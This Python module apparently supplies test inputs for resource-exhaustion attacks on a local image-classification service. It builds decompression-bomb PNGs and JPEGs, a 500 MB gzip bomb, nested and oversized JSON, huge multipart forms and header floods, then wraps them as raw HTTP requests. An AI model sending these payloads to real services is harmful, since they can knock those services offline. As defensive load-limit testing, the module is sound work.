"""What attackers send: small files that cost much, and bodies that are hard to read. Made here, mostly of zeros."""

from __future__ import annotations

import base64
import gzip
import io
import struct
import zlib
from collections.abc import Callable

from PIL import Image

#: The largest square within the service's limit of 80 million pixels.
SIDE = 8900
_BOUNDARY = b"boundary"
#: A form whose Content-Type names this boundary.
FORM = b"multipart/form-data; boundary=" + _BOUNDARY
_PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
_GREY, _PALETTE, _RGBA = 0, 3, 6


def png(side: int, depth: int, colour: int, row_bytes: int, chunks: bytes = b"") -> bytes:
    """A square PNG whose pixels are all 0, in a kilobyte for a megabyte.

    Args:
        side: pixels.
        depth: bits a sample.
        colour: PNG's colour type.
        row_bytes: bytes of a row without its filter.
        chunks: between the header and the pixels.
    """
    pixels = zlib.compressobj(9)
    row = bytes(1 + row_bytes)
    data = b"".join(pixels.compress(row) for _ in range(side)) + pixels.flush()
    header = struct.pack(">IIBBBBB", side, side, depth, colour, 0, 0, 0)
    return _PNG_SIGNATURE + _chunk(b"IHDR", header) + chunks + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def palette_png(side: int = SIDE) -> bytes:
    """A palette whose colours are transparent: decoders that make RGBA of it need four bytes a pixel, twice."""
    chunks = _chunk(b"PLTE", bytes(3 * 256)) + _chunk(b"tRNS", bytes(range(256)))
    return png(side, 8, _PALETTE, side, chunks)


def rgba_png(side: int = SIDE) -> bytes:
    """Four bytes a pixel as they are."""
    return png(side, 8, _RGBA, 4 * side)


def grey16_png(side: int = SIDE) -> bytes:
    """Sixteen bits a pixel."""
    return png(side, 16, _GREY, 2 * side)


def ztxt_png(texts: int = 3, text_mb: int = 1) -> bytes:
    """A digit whose compressed texts are megabytes, which a decoder may unpack one by one. About a kilobyte each."""
    text = _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(text_mb << 20), 9))
    return png(28, 8, _GREY, 28, text * texts)


def progressive_jpeg(side: int, scans: int) -> bytes:
    """A flat progressive JPEG whose last scan is repeated: each costs a pass over all coefficients, for some hundred
    bytes at most."""
    out = io.BytesIO()
    Image.new("RGB", (side, side), (120, 130, 140)).save(out, "JPEG", progressive=True, quality=50)
    file = out.getvalue()
    last = file.rindex(b"\xff\xda")
    # The tables of the last scan stand before it and remain valid.
    return file[:-2] + file[last:-2] * max(0, scans - file.count(b"\xff\xda")) + b"\xff\xd9"


def form(parts: list[bytes]) -> bytes:
    """A multipart body of parts, each with its headers."""
    lines = b"".join(b"--" + _BOUNDARY + b"\r\n" + part + b"\r\n" for part in parts)
    return lines + b"--" + _BOUNDARY + b"--\r\n"


def field(value: bytes) -> bytes:
    """A part without a file name."""
    return b'Content-Disposition: form-data; name="note"\r\n\r\n' + value


def file(value: bytes) -> bytes:
    """A part with one."""
    return b'Content-Disposition: form-data; name="image"; filename="a.png"\r\n\r\n' + value


def bulk(picture: bytes, count: int = 64) -> bytes:
    """A JSON bulk of the same picture many times."""
    text = base64.b64encode(picture)
    return b'{"images": [' + b", ".join([b'"' + text + b'"'] * count) + b"]}"


def wide_json(size: int = 19_000_000) -> bytes:
    """A list of numbers where texts belong."""
    return b'{"images": [1' + b",1" * (size // 2) + b"]}"


def deep_json(size: int = 19_000_000) -> bytes:
    """Lists in lists."""
    return b'{"images": ' + b"[" * (size // 2) + b"]" * (size // 2) + b"}"


def gzip_bomb(unpacked_mb: int = 500) -> bytes:
    """Zeros, packed a thousand times smaller."""
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=9, mtime=0) as packed:
        for _ in range(unpacked_mb):
            packed.write(bytes(1 << 20))
    return out.getvalue()


def post(path: bytes, body: bytes, *headers: bytes) -> bytes:
    """An HTTP request with a body."""
    head = [b"POST " + path + b" HTTP/1.1", b"Host: localhost", b"Content-Length: %d" % len(body), *headers]
    return b"\r\n".join([*head, b"", b""]) + body


_LENET, _GOOGLENET = b"/classify?model=lenet5", b"/classify?model=googlenet"
_JSON, _FORM = b"Content-Type: application/json", b"Content-Type: " + FORM
#: The requests of the attacks that send one thing again and again, by the attack's name.
REQUESTS: dict[str, Callable[[], bytes]] = {
    "scans": lambda: post(_LENET, progressive_jpeg(4000, 3000)),
    "scans-large": lambda: post(_LENET, progressive_jpeg(SIDE, 95)),
    "palette-png": lambda: post(_LENET, palette_png()),
    "rgba-png": lambda: post(_LENET, rgba_png()),
    "grey16-png": lambda: post(_LENET, grey16_png()),
    "ztxt": lambda: post(_LENET, ztxt_png()),
    "dear-bulk": lambda: post(_LENET, bulk(progressive_jpeg(400, 90)), _JSON),
    "ztxt-bulk": lambda: post(_LENET, bulk(ztxt_png()), _JSON),
    "punycode": lambda: post(_LENET, form([field(b"x-" + b"a" * 400_000)]), _FORM + b"; charset=punycode"),
    "fields": lambda: post(_LENET, form([field(b"a" * 19_000_000)]), _FORM),
    "parts": lambda: post(_LENET, form([file(b"a")] * 10_000), _FORM),
    "wide-json": lambda: post(_LENET, wide_json(), _JSON),
    "deep-json": lambda: post(_LENET, deep_json(), _JSON),
    "bodies-40mb": lambda: post(_LENET, bytes(40_000_000)),
    "gzip": lambda: post(_LENET, gzip_bomb(), b"Content-Encoding: gzip"),
    "headers": lambda: (
        b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n" + b"X-Filler: %s\r\n" % (b"a" * 87) * 10_000 + b"\r\n"
    ),
}
